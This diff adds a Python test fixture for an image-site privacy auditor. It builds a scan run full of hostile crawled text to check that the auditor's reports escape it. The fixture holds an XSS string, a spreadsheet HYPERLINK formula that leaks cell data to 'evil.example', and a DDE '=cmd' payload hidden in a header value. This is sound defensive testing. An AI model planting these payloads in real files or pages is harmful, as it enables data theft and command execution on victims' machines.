@@ -1,0 +1,177 @@
+"""Tests of auditor.report; a run with hostile crawled text, written through the public API."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from pathlib import Path
+
+from auditor.extract import ExifFacts, ImageFacts
+from auditor.model import (
+    Finding,
+    ImageContext,
+    ImageRecord,
+    Outcome,
+    PageRecord,
+    RunCounters,
+    Scope,
+    Severity,
+    SignalRecord,
+    SkipRecord,
+    Subject,
+    Verdict,
+    frozen_map,
+)
+from auditor.store import Store, open_store
+
+SITE = "https://photos.example.org"
+AT = "2025-11-22T10:00:00+00:00"
+HOSTILE = "<script>alert(1)</script> | [x](javascript:1)"
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+
+
+@dataclass(frozen=True)
+class Rule:
+    """Title and severity of a rule."""
+
+    title: str
+    severity: Severity
+
+
+def _facts(*, gps: bool) -> ImageFacts:
+    return ImageFacts(
+        sha256="d" * 64,
+        size_bytes=1000,
+        format="JPEG",
+        mime="image/jpeg",
+        width=10,
+        height=20,
+        frames=1,
+        phash="0f0f0f0f0f0f0f0f",
+        exif=ExifFacts(
+            gps_present=gps,
+            gps_lat=48.85 if gps else None,
+            gps_lon=-2.35 if gps else None,
+            datetime_original=None,
+            camera_serial=None,
+            artist="+SUM(1,2)",
+            copyright="@evil",
+            make=None,
+            model=None,
+        ),
+    )
+
+
+def _finding(
+    rule_id: str, severity: Severity, n: int, *, outcome: Outcome = Outcome.FAIL
+) -> Finding:
+    url = f"{SITE}/img/{n}.jpg"
+    return Finding(
+        rule_id=rule_id,
+        pack="uk-gdpr",
+        jurisdiction="UK",
+        outcome=outcome,
+        severity=severity,
+        subject=Subject.IMAGE,
+        message=f"{url} titled {HOSTILE} was collected",
+        references=("UK GDPR Art. 6",),
+        evidence=frozen_map({"title": HOSTILE, "faces": None}),
+        fingerprint=f"{rule_id}-{n}",
+        title=f"Rule {rule_id}",
+        remediation="-remove it",
+        image_url=url,
+        page_url=f"{SITE}/",
+        site=SITE,
+    )
+
+
+def write_run(path: Path) -> tuple[Store, int]:
+    """Open a database at ``path`` and write the hostile scenario; return store and run id."""
+    store = open_store(path)
+    run_id = store.begin_run(
+        tool_version="0.1.0",
+        started_at=AT,
+        config_hash="c" * 64,
+        policy_hash="p" * 64,
+        config_json={},
+        options_json={},
+    )
+    with store.writer(run_id) as writer:
+        writer.add_page(
+            PageRecord(
+                url=f"{SITE}/",
+                final_url=f"{SITE}/",
+                site=SITE,
+                depth=0,
+                status=200,
+                content_type="text/html",
+                fetched_at=AT,
+                title=HOSTILE,
+            )
+        )
+        writer.add_image(
+            ImageRecord(
+                url=f"{SITE}/img/1.jpg",
+                site=SITE,
+                contexts=(ImageContext(page_url=f"{SITE}/", kind="img", alt=FORMULA),),
+                fetched=True,
+                skip_reason=None,
+                fetched_at=AT,
+                status=200,
+                content_type="image/jpeg",
+                headers=(("x-robots-tag", "-noai"),),
+                facts=_facts(gps=True),
+                signals=(
+                    SignalRecord(
+                        mechanism="x_robots_tag",
+                        scope=Scope.RESPONSE,
+                        source_url=f"{SITE}/img/1.jpg",
+                        raw_value="\tnoai\r\n=cmd|' /C calc'!A0",
+                        purposes=frozen_map({"ai-train": Verdict.DISALLOWED}),
+                        notes=("lenient_parse",),
+                    ),
+                ),
+                usage=frozen_map({"crawl": Verdict.ALLOWED, "ai-train": Verdict.DISALLOWED}),
+                jurisdictions=frozen_map({"FR": 0.7}),
+            )
+        )
+        writer.add_image(
+            ImageRecord(
+                url=f"{SITE}/img/0.jpg",
+                site=SITE,
+                contexts=(ImageContext(page_url=f"{SITE}/", kind="img"),),
+                fetched=False,
+                skip_reason="robots_disallowed",
+                fetched_at=None,
+            )
+        )
+        writer.add_skip(SkipRecord(f"{SITE}/img/0.jpg", "image", "robots_disallowed", None, AT))
+        writer.add_skip(SkipRecord(f"{SITE}/x", "page", HOSTILE, "detail", AT))
+        writer.add_skip(SkipRecord(f"{SITE}/y", "page", HOSTILE, "detail", AT))
+        writer.add_findings(
+            [
+                _finding("R-CRIT", Severity.CRITICAL, 1),
+                _finding("R-HIGH", Severity.HIGH, 1),
+                _finding("R-HIGH", Severity.HIGH, 2),
+                _finding("R-HIGH", Severity.HIGH, 3, outcome=Outcome.REVIEW),
+                _finding("R-INFO", Severity.INFO, 1, outcome=Outcome.INSUFFICIENT_DATA),
+            ]
+        )
+        writer.add_rule_stats(
+            {
+                ("uk-gdpr", "R-CRIT"): {"fail": 1},
+                ("uk-gdpr", "R-HIGH"): {"fail": 2, "review": 1, "pass": 7},
+                ("uk-gdpr", "R-OK"): {"pass": 9},
+            },
+            rules={
+                ("uk-gdpr", "R-CRIT"): Rule(HOSTILE, Severity.CRITICAL),
+                ("uk-gdpr", "R-HIGH"): Rule("High", Severity.HIGH),
+                ("uk-gdpr", "R-OK"): Rule("Fine", Severity.LOW),
+            },
+        )
+    store.finish_run(
+        run_id,
+        finished_at=AT,
+        status="complete",
+        counters=RunCounters(pages=1, images=2, images_fetched=1, skips=3, errors=4),
+    )
+    return store, run_id
